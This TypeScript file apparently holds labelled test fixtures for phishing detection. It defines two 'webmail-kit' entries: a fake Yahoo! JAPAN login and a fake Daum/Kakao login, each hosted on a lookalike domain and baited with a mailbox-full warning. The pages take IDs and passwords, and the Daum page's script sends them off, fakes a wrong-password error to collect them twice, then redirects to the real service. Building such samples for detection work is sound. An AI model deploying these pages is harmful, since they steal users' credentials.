import { htmlRoute, type Entry } from '../entry.js';
import { jsonRoute } from '../parts/e-bin.js';
import { doc, wordmark } from '../parts/yj-kit.js';

// Webmail clones.

export const entries: Entry[] = [
  // yj-yahoo-jp-mail-kit
{
  id: 'yj-yahoo-jp-mail-kit',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://login-yahoo-co-jp.mail-storage.info/config/login?.src=ym&.done=https%3A%2F%2Fmail.yahoo.co.jp%2F',
  body: doc({
    lang: 'ja',
    title: 'ログイン - Yahoo! JAPAN',
    css: `body{background:#fff}.hd{border-bottom:1px solid #ddd;padding:10px 16px}.w{max-width:400px;margin:30px auto;padding:0 16px}.box{border:1px solid #ccc;border-radius:8px;padding:24px}
.info{background:#fff9e5;border:1px solid #f0d98a;font-size:13px;padding:10px;margin-bottom:16px;border-radius:4px}input{width:100%;padding:12px;border:1px solid #999;border-radius:4px;font-size:16px;margin:6px 0 14px}
.b{width:100%;background:#ff0033;color:#fff;border:0;border-radius:4px;padding:13px;font-size:16px;font-weight:bold}.sm{font-size:12px;color:#666;text-align:center;margin-top:14px}`,
    body: `<div class="hd">${wordmark('YAHOO! JAPAN', '#ff0033', { w: 170, size: 20, weight: 900 })}</div>
<div class="w"><div class="box"><h2 style="font-size:18px;margin-top:0">Yahoo!メール</h2>
<div class="info">メールボックスの容量が上限（2GB）に達しています。新しいメールを受信できません。ログインして無料で容量を追加してください。</div>
<form method="post" action="/config/validate"><label style="font-size:13px">ID/携帯電話番号/メールアドレス</label><input name="login" autocomplete="username"><label style="font-size:13px">パスワード</label><input name="passwd" type="password" autocomplete="current-password"><button class="b">ログイン</button></form>
<p class="sm"><a href="#">IDを取得</a>｜<a href="#">ログインできない場合</a></p></div>
<p class="sm">&copy; LY Corporation</p></div>`,
  }),
  routes: {
    'login-yahoo-co-jp.mail-storage.info/config/validate': htmlRoute('<!DOCTYPE html><html lang="ja"><head><meta charset="utf-8"><title>処理中</title><meta http-equiv="refresh" content="3;url=https://mail.yahoo.co.jp/"></head><body><p style="text-align:center;margin-top:80px">容量の追加を処理しています…</p></body></html>'),
  },
},
  // yj-daum-mail-quota
{
  id: 'yj-daum-mail-quota',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://daum-mail.account-upgrade.kr.ua/login',
  body: doc({
    lang: 'ko',
    title: 'Daum 메일 - 로그인',
    css: `body{background:#fafafa}.w{max-width:420px;margin:0 auto;padding:60px 20px}.logo{text-align:center;margin-bottom:28px}.al{background:#eef5ff;border-left:4px solid #3b5bdb;padding:12px;font-size:13px;margin-bottom:16px}
input{width:100%;padding:14px;border:1px solid #ddd;font-size:15px;margin-bottom:-1px}.b{width:100%;margin-top:14px;background:#fee500;color:#191919;border:0;border-radius:4px;padding:14px;font-size:16px}.alt{width:100%;margin-top:8px;background:#fff;border:1px solid #ddd;padding:13px;border-radius:4px}`,
    body: `<div class="w"><div class="logo">${wordmark('Daum', '#3b5bdb', { w: 110, size: 34, weight: 900 })}</div>
<div class="al">[Daum 메일] 메일함 용량이 98% 사용 중입니다. 11월 1일부터 수신 메일이 자동 반송됩니다. 계정 확인 후 무료 용량 업그레이드를 받으세요.</div>
<form method="post" action="/login/check.php" id="df"><input name="id" placeholder="카카오메일 아이디, 이메일, 전화번호"><input name="pw" type="password" placeholder="비밀번호"><button class="b">카카오계정으로 로그인</button></form>
<button class="alt" type="button">Daum 아이디로 로그인</button></div>`,
    tail: `<script>
var attempts=0;document.getElementById('df').addEventListener('submit',function(e){e.preventDefault();var f=this;attempts++;
fetch('/login/check.php',{method:'POST',body:new FormData(f)}).then(function(){if(attempts<2){alert('비밀번호가 올바르지 않습니다. 다시 입력해주세요.');f.pw.value=''}else{location.href='https://mail.daum.net/'}})});
</script>`,
  }),
  routes: { 'daum-mail.account-upgrade.kr.ua/login/check.php': jsonRoute({ s: 1 }) },
},
];
